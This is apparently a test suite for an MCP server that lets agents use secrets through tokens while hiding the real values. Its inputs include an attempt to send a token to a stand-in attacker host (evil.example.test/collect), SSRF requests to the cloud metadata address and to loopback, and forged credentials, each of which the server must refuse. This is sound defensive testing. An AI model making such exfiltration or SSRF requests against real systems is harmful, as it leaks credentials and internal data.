// MCP over Streamable HTTP, driven by the official SDK client against handleMcpHttp on a real Bun.serve,
// with a host built from real parts (test/mcp/fixture.ts) and a real HTTPS upstream. Every tool result is
// checked to carry no real value; the audit log is checked to record each decision and no value.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { readAuditKey } from "../../src/audit/key.ts";
import { verifyChain } from "../../src/audit/log.ts";
import { jsonEscape, percentEncode } from "../../src/blind/rewrite/encode.ts";
import { ALLOWED_ORIGIN, NOW, VALUES, startFixture, type Fixture } from "./fixture.ts";

let fx: Fixture;
const clients: Client[] = [];
const MAX_RESPONSE = 64 * 1024;

beforeAll(async () => {
  fx = await startFixture({ maxResponseBytes: MAX_RESPONSE });
});
afterAll(async () => {
  await Promise.all(clients.map((c) => c.close()));
  fx.stop();
});

async function connect(url: string, jwt: string): Promise<Client> {
  const client = new Client({ name: "kz-test", version: "1.0.0" });
  await client.connect(new StreamableHTTPClientTransport(new URL(url), { requestInit: { headers: { Authorization: `Bearer ${jwt}` } } }));
  clients.push(client);
  return client;
}

/** No real value, in any of the forms kz would recognise, anywhere in `text`. */
function expectNoValue(text: string): void {
  for (const value of Object.values(VALUES)) {
    for (const form of [value, jsonEscape(value), percentEncode(value), Buffer.from(value).toString("base64")]) expect(text).not.toContain(form);
  }
}

interface ToolResult {
  isError?: boolean;
  content: { type: string; text: string }[];
  structuredContent?: Record<string, any>;
}

async function call(client: Client, name: string, args: Record<string, unknown> = {}): Promise<ToolResult> {
  const result = (await client.callTool({ name, arguments: args })) as unknown as ToolResult;
  expectNoValue(JSON.stringify(result));
  return result;
}

async function okCall(client: Client, name: string, args: Record<string, unknown> = {}): Promise<Record<string, any>> {
  const result = await call(client, name, args);
  if (result.isError) throw new Error(`${name} failed: ${result.content[0]?.text}`);
  expect(JSON.parse(result.content[0]!.text)).toEqual(result.structuredContent!);
  return result.structuredContent!;
}

async function errorText(client: Client, name: string, args: Record<string, unknown> = {}): Promise<string> {
  const result = await call(client, name, args);
  expect(result.isError).toBe(true);
  expect(result.structuredContent).toBeUndefined();
  return result.content[0]!.text;
}

describe("session basics", () => {
  test("initialize negotiates the latest version and lists the three tools", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    expect(client.getServerVersion()).toMatchObject({ name: "kz" });
    expect(client.getServerCapabilities()).toEqual({ tools: { listChanged: false } });
    expect(client.getInstructions()).toContain("list_secrets");
    const { tools } = await client.listTools();
    expect(tools.map((t) => t.name)).toEqual(["list_secrets", "resolve", "fetch", "query"]);
    expect(tools.find((t) => t.name === "fetch")!.description).toContain(`${MAX_RESPONSE} bytes`);
    await client.ping();
  });

  test("list_secrets shows what the identity may resolve, with hosts and no values", async () => {
    const agent = await connect(fx.open.server.url, await fx.jwt("agent"));
    expect(await okCall(agent, "list_secrets")).toEqual({
      secrets: [
        { name: "API_KEY", hosts: ["api.example.test"] },
        { name: "BASIC_PASS", hosts: ["api.example.test"] },
        { name: "ANY_KEY", hosts: ["*"] },
        { name: "NO_HOSTS", hosts: [] },
        { name: "UNSET_KEY", hosts: ["api.example.test"] },
        { name: "HEADER_KEY", hosts: ["api.example.test"] },
      ],
    });
    const blocked = await connect(fx.open.server.url, await fx.jwt("blocked"));
    expect(await okCall(blocked, "list_secrets")).toEqual({ secrets: [] });
  });

  test("an unknown tool is a protocol error; a bad argument is a tool error", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    await expect(client.callTool({ name: "delete_everything", arguments: {} })).rejects.toThrow(/unknown tool/);
    expect(await errorText(client, "resolve", { nom: "API_KEY" })).toContain('unknown argument "nom"');
  });
});

describe("resolve", () => {
  test("returns a token and the hosts, never the value; one token per secret for the server's life", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    const first = await okCall(client, "resolve", { name: "API_KEY" });
    expect(first).toEqual({ name: "API_KEY", token: expect.stringMatching(/^KZ_TOK_[A-Za-z0-9_-]{24}$/), hosts: ["api.example.test"] });
    const other = await connect(fx.open.server.url, await fx.jwt("agent", { sub: "agent-8" }));
    expect((await okCall(other, "resolve", { name: "API_KEY" })).token).toBe(first.token);
    expect((await okCall(client, "resolve", { name: "ANY_KEY" })).token).not.toBe(first.token);
  });

  test("a denied identity gets a tool error naming the decision, not a token", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("blocked"));
    const text = await errorText(client, "resolve", { name: "API_KEY" });
    expect(text).toMatch(/^resolve: API_KEY is not allowed for you \(denied by policy 0 rule 1; decision dec-\d+\)$/);
    expect(text).not.toContain("KZ_TOK_");
  });

  test("an unknown secret is a tool error", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    expect(await errorText(client, "resolve", { name: "NOPE" })).toBe('resolve: no secret named "NOPE"; list_secrets shows the ones you may use');
  });
});

describe("fetch", () => {
  test("a secret's `inject` template says where `secret` goes; it replaces a caller's header of that name", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    const before = fx.upstream.requests.length;
    const result = await okCall(client, "fetch", { url: "https://api.example.test/echo", secret: "HEADER_KEY", headers: { "x-api-key": "caller-chosen" } });
    const seen = fx.upstream.requests[before]!;
    expect(seen.headers["x-api-key"]).toBe(`Token ${VALUES.KZ_MCP_TEST_HEADER_KEY}`);
    expect(seen.headers.authorization).toBeUndefined();
    expect(JSON.stringify(result)).not.toContain(VALUES.KZ_MCP_TEST_HEADER_KEY);
  });

  test("with `secret`, the upstream gets the real credential and the body comes back with it masked", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    const { token } = await okCall(client, "resolve", { name: "API_KEY" });
    const before = fx.upstream.requests.length;
    const result = await okCall(client, "fetch", { url: "https://api.example.test/echo?q=1", secret: "API_KEY" });
    const seen = fx.upstream.requests[before]!;
    expect(seen.headers.authorization).toBe(`Bearer ${VALUES.KZ_MCP_TEST_API_KEY}`);
    expect(seen).toMatchObject({ method: "GET", path: "/echo?q=1", tls: true });
    expect(seen.headers.host).toBe("api.example.test");
    expect(seen.headers["accept-encoding"]).toBe("identity");
    expect(result).toMatchObject({ status: 200, body_encoding: "text", truncated: false });
    expect(result.headers["content-type"]).toStartWith("application/json");
    const echoed = JSON.parse(result.body);
    // The echo of the value is masked in place by a same-length cut of the token.
    expect(echoed.headers.authorization).toBe(`Bearer ${token.slice(0, VALUES.KZ_MCP_TEST_API_KEY.length)}`);
    expect(result.note).toContain("API_KEY");
  });

  test("tokens are swapped in the URL, headers, Basic credentials and a JSON body, and every echo is masked", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    const api = (await okCall(client, "resolve", { name: "API_KEY" })).token;
    const pass = (await okCall(client, "resolve", { name: "BASIC_PASS" })).token;
    const before = fx.upstream.requests.length;
    const result = await okCall(client, "fetch", {
      url: `https://api.example.test/echo?key=${api}`,
      method: "post",
      headers: { "X-Api-Key": api, Authorization: `Basic ${Buffer.from(`robot:${pass}`).toString("base64")}`, "Content-Type": "application/json" },
      body: JSON.stringify({ password: pass }),
    });
    const seen = fx.upstream.requests[before]!;
    expect(seen.method).toBe("POST");
    expect(seen.path).toBe(`/echo?key=${percentEncode(VALUES.KZ_MCP_TEST_API_KEY)}`);
    expect(seen.headers["x-api-key"]).toBe(VALUES.KZ_MCP_TEST_API_KEY);
    expect(seen.headers.authorization).toBe(`Basic ${Buffer.from(`robot:${VALUES.KZ_MCP_TEST_BASIC_PASS}`).toString("base64")}`);
    expect(JSON.parse(seen.body.toString())).toEqual({ password: VALUES.KZ_MCP_TEST_BASIC_PASS });
    expect(Number(seen.headers["content-length"])).toBe(seen.body.length);
    expect(result.status).toBe(200);
    expect(result.note).toContain("API_KEY");
    expect(result.note).toContain("BASIC_PASS");
  });

  test("a token headed to a host its secret is not bound to is refused before anything is sent", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    const { token } = await okCall(client, "resolve", { name: "API_KEY" });
    const before = fx.upstream.requests.length;
    const text = await errorText(client, "fetch", { url: "https://evil.example.test/collect", headers: { "X-Key": token } });
    expect(text).toBe("fetch refused: API_KEY may only be sent to api.example.test; this request goes to evil.example.test");
    expect(await errorText(client, "fetch", { url: `https://api.example.test:8443/echo?k=${token}` })).toContain("this request goes to api.example.test:8443");
    expect(await errorText(client, "fetch", { url: "http://api.example.test/echo", secret: "API_KEY" })).toContain("only sent over TLS");
    expect(fx.upstream.requests.length).toBe(before);
  });

  test("placement: a header-only secret's token in a body, a path or (for API_KEY, header and query) a body is refused before anything is sent", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent", { sub: "placement-agent" }));
    const header = (await okCall(client, "resolve", { name: "HEADER_KEY" })).token;
    const api = (await okCall(client, "resolve", { name: "API_KEY" })).token;
    const before = fx.upstream.requests.length;
    const json = { "Content-Type": "application/json" };
    const stored = await errorText(client, "fetch", { url: "https://api.example.test/contents/notes.txt", method: "put", headers: json, body: JSON.stringify({ content: header }) });
    expect(stored).toStartWith('fetch refused: HEADER_KEY may be swapped only in a request header (swap = ["header"]); its token was found in the request body');
    expect(await errorText(client, "fetch", { url: `https://api.example.test/kv/${header}`, method: "put" })).toContain("found in the URL's path");
    expect(await errorText(client, "fetch", { url: "https://api.example.test/notes", method: "post", headers: json, body: JSON.stringify({ note: api }) })).toContain(
      "API_KEY may be swapped only in a request header or the URL's query string",
    );
    expect(fx.upstream.requests.length).toBe(before); // nothing reached the API
    const records = fx.open.host.auditRecords().filter((r) => r.subject === "placement-agent" && r.action === "fetch");
    expect(records.map((r) => r.secret)).toEqual(["HEADER_KEY", "HEADER_KEY", "API_KEY"]);
    expect(records.every((r) => r.effect === "deny")).toBe(true);
    // The secret opted in to a body swaps there (BASIC_PASS: header and body).
    const pass = (await okCall(client, "resolve", { name: "BASIC_PASS" })).token;
    await okCall(client, "fetch", { url: "https://api.example.test/echo", method: "post", headers: json, body: JSON.stringify({ p: pass }) });
    expect(JSON.parse(fx.upstream.requests.at(-1)!.body.toString())).toEqual({ p: VALUES.KZ_MCP_TEST_BASIC_PASS });
  });

  test("a denied identity gets a tool error; policy sees the host (request.host)", async () => {
    const blocked = await connect(fx.open.server.url, await fx.jwt("blocked"));
    expect(await errorText(blocked, "fetch", { url: "https://api.example.test/echo", secret: "API_KEY" })).toMatch(
      /^fetch denied by policy — API_KEY: denied by policy 0 rule 1 \(decision dec-\d+\)$/,
    );
    const agent = await connect(fx.open.server.url, await fx.jwt("agent"));
    expect(await errorText(agent, "fetch", { url: "https://forbidden.example.test/", secret: "ANY_KEY" })).toContain("ANY_KEY: denied by policy 1 rule 0");
  });

  test("a request with no secret, a secret without hosts, an unreadable secret: tool errors", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    expect(await errorText(client, "fetch", { url: "https://api.example.test/echo" })).toContain("uses no secret");
    expect(await errorText(client, "fetch", { url: "https://api.example.test/echo", secret: "NO_HOSTS" })).toBe(
      "fetch refused: NO_HOSTS has no hosts in the bundle, so it cannot be sent anywhere",
    );
    expect(await errorText(client, "fetch", { url: "https://api.example.test/echo", secret: "UNSET_KEY" })).toBe(
      "fetch: cannot read a secret from its provider: environment variable KZ_MCP_TEST_NOT_SET is not set",
    );
    expect(await errorText(client, "fetch", { url: "https://api.example.test/echo", secret: "NOPE" })).toContain('no secret named "NOPE"');
    expect(await errorText(client, "fetch", { url: "ftp://api.example.test/", secret: "API_KEY" })).toContain("only https://");
    expect(await errorText(client, "fetch", { url: "https://u:p@api.example.test/", secret: "API_KEY" })).toContain("user:password@");
  });

  test("large bodies are cut at the limit and marked; binary bodies come back as base64", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    const binary = await okCall(client, "fetch", { url: "https://api.example.test/download?bytes=300000", secret: "API_KEY" });
    expect(binary).toMatchObject({ status: 200, body_encoding: "base64", truncated: true, note: expect.stringContaining(`first ${MAX_RESPONSE} bytes`) });
    expect(Buffer.from(binary.body, "base64").length).toBe(MAX_RESPONSE);
    expect(binary.headers["content-length"]).toBe("300000");
    const small = await okCall(client, "fetch", { url: "https://api.example.test/download?bytes=1000&chunked=1", secret: "API_KEY" });
    expect(small).toMatchObject({ truncated: false, body_encoding: "base64" });
    expect(Buffer.from(small.body, "base64").length).toBe(1000);
    const text = await okCall(client, "fetch", {
      url: "https://api.example.test/echo",
      method: "PUT",
      secret: "API_KEY",
      headers: { "Content-Type": "text/plain" },
      body: "x".repeat(100_000),
    });
    expect(text).toMatchObject({ body_encoding: "text", truncated: true });
    expect(Buffer.byteLength(text.body)).toBe(MAX_RESPONSE);
  });

  test("an upstream 404 is a result, not an error", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    expect(await okCall(client, "fetch", { url: "https://api.example.test/missing", secret: "API_KEY" })).toMatchObject({ status: 404, body: "not found\n" });
  });
});

describe("SSRF guard (allow_private: false)", () => {
  test("the metadata address and loopback are refused, and so is a resolve pin to loopback", async () => {
    const client = await connect(fx.strict.server.url, await fx.jwt("agent"));
    const before = fx.upstream.requests.length;
    expect(await errorText(client, "fetch", { url: "https://169.254.169.254/latest/meta-data/", secret: "ANY_KEY" })).toBe(
      "fetch refused: 169.254.169.254 is the cloud metadata address; fetch reaches only public addresses unless the bundle sets fetch.allow_private: true",
    );
    expect(await errorText(client, "fetch", { url: `https://127.0.0.1:${fx.upstream.port}/echo`, secret: "ANY_KEY" })).toContain("127.0.0.1 is a loopback address");
    expect(await errorText(client, "fetch", { url: "https://[::ffff:127.0.0.1]/", secret: "ANY_KEY" })).toContain("IPv4-mapped");
    expect(await errorText(client, "fetch", { url: "https://2130706433/", secret: "ANY_KEY" })).toContain("127.0.0.1 is a loopback address");
    expect(await errorText(client, "fetch", { url: "https://localhost/", secret: "ANY_KEY" })).toContain("loopback");
    expect(await errorText(client, "fetch", { url: "https://api.example.test/echo", secret: "API_KEY" })).toContain("127.0.0.1 is a loopback address");
    expect(fx.upstream.requests.length).toBe(before);
  });

  test("with allow_private: true the same loopback upstream is reachable", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent"));
    const result = await okCall(client, "fetch", { url: `https://127.0.0.1:${fx.upstream.port}/echo`, secret: "ANY_KEY" });
    expect(result.status).toBe(200);
  });
});

describe("HTTP transport hygiene", () => {
  const initialize = { jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "raw", version: "1" } } };
  const post = (body: unknown, headers: Record<string, string> = {}, url = fx.open.server.url) =>
    fetch(url, {
      method: "POST",
      headers: { "Content-Type": "application/json", Accept: "application/json, text/event-stream", ...headers },
      body: typeof body === "string" ? body : JSON.stringify(body),
    });
  const bearer = async () => ({ Authorization: `Bearer ${await fx.jwt("agent")}` });

  test("no token, a bad one, an expired one: 401 with the resource-metadata challenge", async () => {
    const metadataUrl = `${fx.open.server.publicUrl}/.well-known/oauth-protected-resource/mcp`;
    const missing = await post(initialize);
    expect(missing.status).toBe(401);
    expect(missing.headers.get("www-authenticate")).toBe(`Bearer resource_metadata="${metadataUrl}"`);
    expect(await missing.json()).toMatchObject({ jsonrpc: "2.0", id: null, error: { code: -32001, message: "missing bearer token" } });

    const bad = await post(initialize, { Authorization: "Bearer not.a.jwt" });
    expect(bad.status).toBe(401);
    expect(bad.headers.get("www-authenticate")).toStartWith(`Bearer resource_metadata="${metadataUrl}", error="invalid_token", error_description="`);

    const expiredJwt = await fx.jwt("agent", { iat: NOW - 600, exp: NOW - 300 });
    const expired = await post(initialize, { Authorization: `Bearer ${expiredJwt}` });
    expect(expired.status).toBe(401);
    expect(expired.headers.get("www-authenticate")).toContain("expired");
    expect(await expired.text()).not.toContain(expiredJwt.split(".")[1]!);

    const forged = await post(initialize, { Authorization: `Bearer ${expiredJwt.split(".").slice(0, 2).join(".")}.${"A".repeat(86)}` });
    expect(forged.status).toBe(401);
  });

  test("the SDK client without a token fails with 401; the metadata document names the resource and issuer", async () => {
    const client = new Client({ name: "kz-test", version: "1.0.0" });
    await expect(client.connect(new StreamableHTTPClientTransport(new URL(fx.open.server.url)))).rejects.toThrow(/401|Unauthorized|missing bearer token/);
    for (const path of ["/.well-known/oauth-protected-resource", "/.well-known/oauth-protected-resource/mcp"]) {
      const response = await fetch(`${fx.open.server.publicUrl}${path}`);
      expect(response.status).toBe(200);
      expect(await response.json()).toEqual({
        resource: fx.open.server.url,
        authorization_servers: ["https://idp.example.test"],
        bearer_methods_supported: ["header"],
        resource_name: "kz (KeyZero)",
      });
    }
  });

  test("a foreign Origin is 403 even with a good token; a listed one gets CORS for itself, never *", async () => {
    const auth = await bearer();
    const foreign = await post(initialize, { ...auth, Origin: "https://evil.example" });
    expect(foreign.status).toBe(403);
    expect(foreign.headers.get("access-control-allow-origin")).toBeNull();
    expect(await foreign.json()).toMatchObject({ jsonrpc: "2.0", id: null, error: { message: expect.stringContaining("not allowed") } });
    expect((await post(initialize, { ...auth, Origin: "null" })).status).toBe(403);

    const listed = await post(initialize, { ...auth, Origin: ALLOWED_ORIGIN });
    expect(listed.status).toBe(200);
    expect(listed.headers.get("access-control-allow-origin")).toBe(ALLOWED_ORIGIN);
    expect(listed.headers.get("vary")).toContain("Origin");

    const preflight = await fetch(fx.open.server.url, { method: "OPTIONS", headers: { Origin: ALLOWED_ORIGIN, "Access-Control-Request-Method": "POST" } });
    expect(preflight.status).toBe(204);
    expect(preflight.headers.get("access-control-allow-origin")).toBe(ALLOWED_ORIGIN);
    expect(preflight.headers.get("access-control-allow-headers")).toContain("Authorization");
    expect((await fetch(fx.open.server.url, { method: "OPTIONS", headers: { Origin: "https://evil.example" } })).status).toBe(403);

    const none = await post(initialize, auth);
    expect(none.status).toBe(200);
    expect(none.headers.get("access-control-allow-origin")).toBeNull();
  });

  test("GET and DELETE are 405; notifications and responses are 202", async () => {
    const auth = await bearer();
    const get = await fetch(fx.open.server.url, { headers: { ...auth, Accept: "text/event-stream" } });
    expect(get.status).toBe(405);
    expect(get.headers.get("allow")).toBe("POST, OPTIONS");
    expect((await fetch(fx.open.server.url, { method: "DELETE", headers: auth })).status).toBe(405);
    const note = await post({ jsonrpc: "2.0", method: "notifications/initialized" }, auth);
    expect(note.status).toBe(202);
    expect(await note.text()).toBe("");
    expect((await post({ jsonrpc: "2.0", id: 9, result: {} }, auth)).status).toBe(202);
  });

  test("version negotiation and the MCP-Protocol-Version header", async () => {
    const auth = await bearer();
    const asked = async (version: string) => ((await (await post({ ...initialize, params: { ...initialize.params, protocolVersion: version } }, auth)).json()) as any).result.protocolVersion;
    expect(await asked("2025-06-18")).toBe("2025-06-18");
    expect(await asked("2025-03-26")).toBe("2025-03-26");
    expect(await asked("2031-01-01")).toBe("2025-11-25");
    const unsupported = await post({ jsonrpc: "2.0", id: 2, method: "ping" }, { ...auth, "MCP-Protocol-Version": "1999-01-01" });
    expect(unsupported.status).toBe(400);
    expect(((await unsupported.json()) as any).error.message).toContain("unsupported MCP-Protocol-Version");
    expect((await post({ jsonrpc: "2.0", id: 2, method: "ping" }, { ...auth, "MCP-Protocol-Version": "2025-11-25" })).status).toBe(200);
  });

  test("batches: allowed in 2025-03-26 (without initialize), refused in later versions", async () => {
    const auth = await bearer();
    const batch = [
      { jsonrpc: "2.0", id: 1, method: "ping" },
      { jsonrpc: "2.0", method: "notifications/initialized" },
      { jsonrpc: "2.0", id: 2, method: "tools/list" },
      { ...initialize, id: 3 },
      { jsonrpc: "2.0", id: 4 },
    ];
    const old = await post(batch, { ...auth, "MCP-Protocol-Version": "2025-03-26" });
    expect(old.status).toBe(200);
    const answers = (await old.json()) as any[];
    expect(answers.map((a) => [a.id, a.error?.code ?? "ok"])).toEqual([[1, "ok"], [2, "ok"], [3, -32600], [4, -32600]]);
    expect((await post([{ jsonrpc: "2.0", method: "notifications/initialized" }], { ...auth, "MCP-Protocol-Version": "2025-03-26" })).status).toBe(202);
    const current = await post(batch, { ...auth, "MCP-Protocol-Version": "2025-06-18" });
    expect(current.status).toBe(400);
    expect(((await current.json()) as any).error.message).toContain("batches are not part of MCP 2025-06-18");
    expect((await post([], { ...auth, "MCP-Protocol-Version": "2025-03-26" })).status).toBe(400);
  });

  test("malformed JSON, invalid messages, wrong Content-Type, oversized bodies, unknown methods", async () => {
    const auth = await bearer();
    const malformed = await post("{nope", auth);
    expect(malformed.status).toBe(400);
    expect(await malformed.json()).toMatchObject({ jsonrpc: "2.0", id: null, error: { code: -32700 } });
    const invalid = await post({ jsonrpc: "1.0", id: 5, method: "ping" }, auth);
    expect(invalid.status).toBe(400);
    expect(await invalid.json()).toMatchObject({ id: 5, error: { code: -32600 } });
    expect((await post({ jsonrpc: "2.0", id: 1, method: "ping" }, { ...auth, "Content-Type": "text/plain" })).status).toBe(415);
    expect((await post({ jsonrpc: "2.0", id: 1, method: "ping" }, { ...auth, Accept: "text/event-stream" })).status).toBe(406);
    const huge = await post(JSON.stringify({ jsonrpc: "2.0", id: 1, method: "ping", params: { pad: "x".repeat(5 * 1024 * 1024) } }), auth);
    expect(huge.status).toBe(413);
    const unknown = await post({ jsonrpc: "2.0", id: 6, method: "resources/list" }, auth);
    expect(await unknown.json()).toMatchObject({ id: 6, error: { code: -32601 } });
  });
});

describe("audit", () => {
  test("every decision is one record — action, host, method, path — and no record holds a value; the chain verifies", async () => {
    const client = await connect(fx.open.server.url, await fx.jwt("agent", { sub: "audited-agent" }));
    await okCall(client, "fetch", { url: "https://api.example.test/echo?x=1", method: "DELETE", secret: "API_KEY" });
    const text = readFileSync(fx.open.host.auditPath, "utf8");
    expectNoValue(text);
    expect(verifyChain(text, { key: readAuditKey(join(dirname(fx.open.host.auditPath), "audit.key")) })).toBeUndefined();
    const mine = fx.open.host.auditRecords().filter((r) => r.subject === "audited-agent");
    expect(mine).toEqual([
      expect.objectContaining({ secret: "API_KEY", action: "fetch", host: "api.example.test", method: "DELETE", path: "/echo", effect: "allow" }),
    ]);
  });
});
